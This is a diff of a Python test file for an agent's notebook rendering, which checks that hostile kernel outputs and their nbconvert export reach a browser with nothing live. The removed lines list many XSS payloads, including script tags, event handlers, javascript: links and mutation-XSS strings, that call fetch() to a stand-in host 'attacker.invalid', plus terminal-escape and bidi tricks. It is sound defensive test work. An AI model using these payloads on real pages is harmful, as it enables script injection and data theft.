@@ -1,7 +1,7 @@
 """What a hostile kernel displays reaches a browser as pixels, text or a table of ours, or not.
 
 The same payloads are tried where they would act: in the exported notebook, in what ``nbconvert``
-makes of it, and in a real browser where there is one.
+makes of it, and in a real browser (``tests/browser``).
 """
 
 from __future__ import annotations
@@ -9,129 +9,25 @@ from __future__ import annotations
 import base64
 import io
 import re
-import shutil
 import struct
-import sys
 import zlib
 from collections.abc import Iterator
 from pathlib import Path
 from typing import Any
-from urllib.parse import urlsplit
 
 import html5lib
-import nbformat
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 from PIL import Image, ImageCms, PngImagePlugin
+from support.hostile import ACT, exported_page, hostile_outputs, shown, table
 
-from kernel_agent.notebook.build import notebook_of
-from kernel_agent.notebook.outputs import displayable, full_text, notebook_outputs
+from kernel_agent.notebook.outputs import displayable, notebook_outputs
 from kernel_agent.notebook.tables import MAX_CELLS, rendered
-from kernel_agent.records.action import Code
-from kernel_agent.records.cell import Answer, CellError, CellResult, Observation
-from kernel_agent.records.endings import ExitStatus
-from kernel_agent.records.trace import RunStart, RunStop, Step
 
-HOST = "attacker.invalid"
-ACT = f"alert(1);fetch('http://{HOST}/js')"
-HTML = [
-    f"<script>{ACT}</script>",
-    f"<script src=//{HOST}/s.js></script>",
-    f'<img src=x onerror="{ACT}">',
-    f"<img src=http://{HOST}/i.png>",
-    f'<a href="javascript:{ACT}">here</a>',
-    f'<a href="jav&#x09;ascript:{ACT}">here</a>',
-    f'<svg onload="{ACT}"></svg>',
-    f"<svg><animate onbegin={ACT} attributeName=x dur=1s>",
-    f'<iframe srcdoc="<script>parent.{ACT}</script>"></iframe>',
-    f"<iframe src=http://{HOST}/f></iframe>",
-    f"<object data='data:text/html,<script>{ACT}</script>'></object>",
-    f"<embed src=http://{HOST}/e>",
-    f"<p style=\"background:url('http://{HOST}/css')\">x</p>",
-    f"<style>@import 'http://{HOST}/style'; td {{ background: url(//{HOST}/td) }}</style>",
-    f"<link rel=stylesheet href=http://{HOST}/l.css>",
-    f"<link rel=prefetch href=http://{HOST}/prefetch>",
-    f"<meta http-equiv=refresh content='0;url=http://{HOST}/'>",
-    f"<base href=http://{HOST}/>",
-    f"<form action=http://{HOST}/><input type=submit autofocus onfocus={ACT}></form>",
-    f"<video src=http://{HOST}/v onerror={ACT}><source onerror={ACT}></video>",
-    f"<details open ontoggle={ACT}>x</details>",
-    f"<body onload={ACT} background=http://{HOST}/b>",
-    # Mutations: what one parser takes for text, another takes for a tag.
-    f"<noscript><p title='</noscript><img src=x onerror={ACT}>'>",
-    (
-        "<math><mtext><table><mglyph><style><!--</style>"
-        f"<img title='--&gt;&lt;img src onerror={ACT}&gt;'>"
-    ),
-    f"<svg></p><style><a id='</style><img src=1 onerror={ACT}>'>",
-    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={ACT}>",
-    f"<table><td><!--><img src onerror={ACT}>--></table>",
-    f"<table><td><textarea></td></table></textarea><img src onerror={ACT}>",
-    f"<table><caption><svg><desc><table><td><img src onerror={ACT}>",
-    f"<table border='1' class='dataframe'><td title='\"><img src onerror={ACT}>'>x</td></table>",
-    f"<table><td>&lt;img src onerror={ACT}&gt;</td></table>",
-    f"<TABLE\x0c><td onclick={ACT}\x00>x</td\n></TABLE>",
-    "<table>" * 5000,
-    "<!--" * 50_000,
-]
-MARKDOWN = [
-    f"[here](javascript:{ACT})",
-    f"![x](http://{HOST}/md.png)",
-    f"![x][r]\n\n[r]: http://{HOST}/ref.png",
-    f"<http://{HOST}/auto>",
-    f"$$\\href{{javascript:{ACT}}}{{x}}$$ $\\unicode{{x}}$",
-    f"<details><summary>x</summary></details><img src=x onerror={ACT}>",
-    f"```\n</code></pre><img src=x onerror={ACT}>\n```",
-    f"`<img src=x onerror={ACT}>",
-    f"| a |\n|---|\n| <img src=x onerror={ACT}> |",
-]
-ESCAPES = ["\x1b]8;;http://attacker.invalid/osc\x07link\x1b]8;;\x07", "\x1b[2J\x1b]0;title\x07",
-           "\x9b2J", "\x1bP+q544e\x1b\\"]  # fmt: skip
-BIDI = ["access = '\u202e\u2066# not checked\u2069 \u2066user'", "\u202dabc\u202c\u202a\u202b"]
-TEXTS = [*HTML, *MARKDOWN, *ESCAPES, *BIDI]
-
-KINDS = (
-    "text/html", "text/plain", "text/markdown", "text/latex", "image/svg+xml", "image/png",
-    "image/jpeg", "image/gif", "application/javascript", "application/json", "application/pdf",
-    "application/vnd.jupyter.widget-view+json", "application/vnd.plotly.v1+json",
-    "application/vnd.vega.v5+json", "text/html; charset=utf-8", "TEXT/HTML", "text/HTML ",
-    "application/vnd.kernel-agent.value+json", "application/vnd.kernel-agent.answer+json",
-    'x"><script>', "text/vnd.mermaid",
-)  # fmt: skip
 TAGS = {"html", "head", "body", "div", "table", "thead", "tbody", "tfoot", "tr", "th", "td", "p",
         "br"}  # fmt: skip
 ATTRIBUTES = {"border", "class", "colspan", "rowspan"}
-
-
-def shown(data: Any, metadata: Any = None) -> dict[str, Any]:
-    return {"output_type": "display_data", "data": data, "metadata": metadata or {}}
-
-
-def table(text: str) -> dict[str, Any]:
-    """A table as the kernel describes it, with a payload wherever there is text."""
-    return {
-        "columns": [[text, "b"]], "column_names": [text], "index": [[text], ["y"]],
-        "index_names": [text, ""], "cells": [[text], ["1"]], "row_gap": 1, "column_gap": 0,
-        "shape": [1, 2],
-    }  # fmt: skip
-
-
-def hostile_outputs() -> list[dict[str, Any]]:
-    """Every payload under every MIME type, and everywhere else where an output has text."""
-    found = []
-    for text in TEXTS:
-        for kind in KINDS:
-            found.append(shown({kind: text}))
-        found.append(shown({"application/json": {"text/html": text, text: [text]}}))
-        found.append(shown({"application/vnd.kernel-agent.value+json": {"table": table(text)}}))
-        found.append(shown({"text/html": {"text/html": text}, "text/plain": [text, text]}))
-        found.append(shown({"text/html": f"<table><tr><td>{text}</td></tr></table>"}))
-        found.append(shown({"text/plain": "x"}, {"text/html": text, "isolated": True, text: 1}))
-        found.append({"output_type": "stream", "name": text, "text": text})
-        found.append({"output_type": "error", "ename": text, "evalue": text, "traceback": [text]})
-        found.append({"output_type": text, "text": text})
-    return found
 
 
 def live(source: str) -> list[str]:
@@ -318,54 +214,8 @@ def test_a_picture_that_would_not_fit_is_scaled_down() -> None:
 # --- where it would act --------------------------------------------------------------------------
 
 
-def hostile_notebook() -> nbformat.NotebookNode:
-    """A whole run in which the task, the thoughts, the outputs and the answer are hostile."""
-    start = {"time": "", "model": TEXTS[0], "format": "fenced", "sandbox": {"level": TEXTS[0]},
-             "budget": {}}  # fmt: skip
-    records: list[Any] = []
-    outputs = tuple(hostile_outputs())
-    assert full_text(outputs)
-    for number, text in enumerate(t for t in TEXTS if len(t) < 1000):
-        run = str(number)
-        records.append(RunStart(run_id=run, task=text, **start))
-        result = CellResult(
-            status="error", outputs=outputs[number::40],
-            error=CellError(ename=text, evalue=text, traceback=(text,)),
-        )  # fmt: skip
-        late = CellResult(status="timeout", outputs=outputs[:9])
-        steps = [
-            (Code(source="1", thought=text), result),
-            (Code(source=text, thought=text), late),
-        ]
-        records += [
-            Step(run_id=run, number=2 * number + k, action=action, result=what,
-                 observation=Observation(text=text))
-            for k, (action, what) in enumerate(steps)
-        ]  # fmt: skip
-        kind = "str" if number % 2 else "int"
-        records.append(
-            RunStop(run_id=run, status=ExitStatus.ANSWERED, answer=Answer(text=text, kind=kind))
-        )
-    return notebook_of(records)
-
-
-@pytest.fixture(scope="module")
-def page(tmp_path_factory: pytest.TempPathFactory) -> Path:
-    """The hostile notebook as ``nbconvert --to html`` writes it."""
-    import warnings
-
-    from nbconvert import HTMLExporter
-
-    with warnings.catch_warnings():
-        warnings.simplefilter("ignore")  # nbconvert's own
-        source, _ = HTMLExporter().from_notebook_node(hostile_notebook())
-    path = tmp_path_factory.mktemp("page") / "run.html"
-    path.write_text(source)
-    return path
-
-
-def test_the_page_of_an_exported_notebook_has_nothing_live_of_theirs(page: Path) -> None:
-    tree = html5lib.parse(page.read_text(), namespaceHTMLElements=False)
+def test_the_page_of_an_exported_notebook_has_nothing_live_of_theirs(tmp_path: Path) -> None:
+    tree = html5lib.parse(exported_page(tmp_path).read_text(), namespaceHTMLElements=False)
     (main,) = (e for e in tree.iter() if e.tag == "main")
     elements = [e for e in main.iter() if isinstance(e.tag, str)]
     assert len(elements) > 1000
@@ -376,58 +226,3 @@ def test_the_page_of_an_exported_notebook_has_nothing_live_of_theirs(page: Path)
         assert not [name for name in element.attrib if name.startswith("on") or name == "style"]
         address = element.attrib.get("href", element.attrib.get("src", "#"))
         assert address.startswith("#"), address
-
-
-def test_a_browser_shows_it_without_a_dialog_and_without_a_request(page: Path) -> None:
-    chromium = shutil.which("chromium")
-    playwright = pytest.importorskip("playwright.sync_api")
-    if chromium is None:
-        pytest.skip("there is no chromium here")
-    asked: list[str] = []
-    opened: list[str] = []
-    with playwright.sync_playwright() as driver:
-        browser = driver.chromium.launch(executable_path=chromium, args=["--no-sandbox"])
-        context = browser.new_context()
-        tab = context.new_page()
-
-        def answer(route: Any) -> None:
-            asked.append(route.request.url)
-            if urlsplit(route.request.url).scheme == "file":
-                route.continue_()
-            else:
-                route.abort()
-
-        context.route("**/*", answer)
-        tab.on("dialog", lambda dialog: (opened.append(dialog.message), dialog.dismiss()))
-        tab.goto(page.as_uri(), wait_until="load")
-        tab.evaluate("document.querySelectorAll('details').forEach(d => d.open = true)")
-        tab.wait_for_timeout(500)
-        frames = len(tab.frames)
-        browser.close()
-    assert asked  # the page itself
-    # What nbconvert's own template loads: MathJax and RequireJS.
-    theirs = [url for url in asked if urlsplit(url).netloc not in ("", "cdnjs.cloudflare.com")]
-    assert (theirs, opened, frames) == ([], [], 1)
-
-
-@pytest.mark.skipif(sys.platform != "linux", reason="the browser of this test is Debian's")
-def test_the_test_of_the_browser_can_fail(tmp_path: Path) -> None:
-    """The same payloads, unguarded, do act: a test that nothing can fail proves nothing."""
-    chromium = shutil.which("chromium")
-    playwright = pytest.importorskip("playwright.sync_api")
-    if chromium is None:
-        pytest.skip("there is no chromium here")
-    page = tmp_path / "bad.html"
-    page.write_text("".join(t for t in HTML[2:7]) + HTML[3])
-    asked: list[str] = []
-    opened: list[str] = []
-    with playwright.sync_playwright() as driver:
-        browser = driver.chromium.launch(executable_path=chromium, args=["--no-sandbox"])
-        tab = browser.new_page()
-        tab.on("request", lambda request: asked.append(request.url))
-        tab.on("dialog", lambda dialog: (opened.append(dialog.message), dialog.dismiss()))
-        tab.goto(page.as_uri(), wait_until="load")
-        tab.wait_for_timeout(300)
-        browser.close()
-    assert opened
-    assert any(HOST in url for url in asked)
